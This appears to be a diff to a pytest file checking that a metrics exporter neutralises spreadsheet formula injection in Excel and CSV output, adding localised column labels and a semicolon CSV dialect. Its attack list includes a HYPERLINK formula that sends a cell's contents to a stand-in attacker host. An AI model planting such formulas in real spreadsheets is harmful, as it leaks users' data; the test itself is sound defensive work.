@@ -12,7 +12,13 @@ import openpyxl
 import pytest
 
 from conftest import REPO
+from qc.display import column_label
 from qc.records.export import export_metrics, neutralise_cell, to_bytes
+
+
+def L(key: str) -> str:
+    """The English export label of a stored column (exports are labelled for the physicist)."""
+    return column_label(key, "en")
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
@@ -47,29 +53,30 @@ def test_cell_rules():
 
 
 def test_excel_export_has_no_formula_and_the_same_numbers(stored):
-    wb = openpyxl.load_workbook(io.BytesIO(export_metrics(stored, fmt="xlsx")))
+    wb = openpyxl.load_workbook(io.BytesIO(export_metrics(stored, fmt="xlsx", lang="en")))
     ws = wb.active
     header = [c.value for c in ws[1]]
     rows = list(ws.iter_rows(min_row=2))
     assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
-    comments = {row[header.index("comment")].value for row in rows}
+    comments = {row[header.index(L("comment"))].value for row in rows}
     assert comments == {"'" + a.strip() for a in ATTACKS}  # storage strips the typed text
-    level = [row for row in rows if row[header.index("metric")].value == "helium_level_pct"]
+    level = [row for row in rows if row[header.index(L("value"))].value == 72.5]
     assert len(level) == len(ATTACKS)
-    assert all(row[header.index("value")].data_type == "n" and row[header.index("value")].value == 72.5 for row in level)
+    assert all(row[header.index(L("value"))].data_type == "n" for row in level)
 
 
 def test_csv_export_cells_start_with_no_trigger(stored):
-    text = export_metrics(stored, fmt="csv").decode("utf-8-sig")
-    rows = list(csv.DictReader(io.StringIO(text)))
-    assert len([r for r in rows if r["metric"] == "helium_level_pct"]) == len(ATTACKS)
-    for row in rows:
-        for col, cell in row.items():
-            if col not in ("value", "nominal", "act_low", "tol_low", "tol_high", "act_high", "session_id", "voided"):
-                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
-        if row["metric"] == "helium_level_pct":
-            assert float(row["value"]) == 72.5
-    assert {r["operator"] for r in rows} == {"'" + a.strip() for a in ATTACKS}
+    for dialect, sep in (("en", ","), ("fr", ";")):
+        text = export_metrics(stored, fmt="csv", lang="en", dialect=dialect).decode("utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text), delimiter=sep))
+        numeric = {L(c) for c in ("value", "nominal", "act_low", "tol_low", "tol_high", "act_high", "session_id", "voided")}
+        for row in rows:
+            for col, cell in row.items():
+                if col not in numeric:
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
+        level = [r for r in rows if r[L("value")].replace(",", ".") == "72.5"]
+        assert len(level) == len(ATTACKS)
+        assert {r[L("operator")] for r in rows} == {"'" + a.strip() for a in ATTACKS}
 
 
 def test_cli_export_is_neutralised(stored, qc_data_dir, tmp_path):
@@ -91,6 +98,6 @@ def test_any_frame_through_to_bytes_is_neutralised():
     assert got == ["'" + a.replace("\r", "\n") for a in ATTACKS] + ["ok"]
     assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
     assert ws["B2"].value == -1.0 and ws["B2"].data_type == "n"
-    rows = list(csv.reader(io.StringIO(to_bytes(df, "csv").decode("utf-8-sig"), newline="")))
+    rows = list(csv.reader(io.StringIO(to_bytes(df, "csv", dialect="en").decode("utf-8-sig"), newline="")))
     assert [r[0] for r in rows[1:]] == ["'" + a.replace("\r", "\n") for a in ATTACKS] + ["ok"]
     assert rows[1][1] == "-1.0"
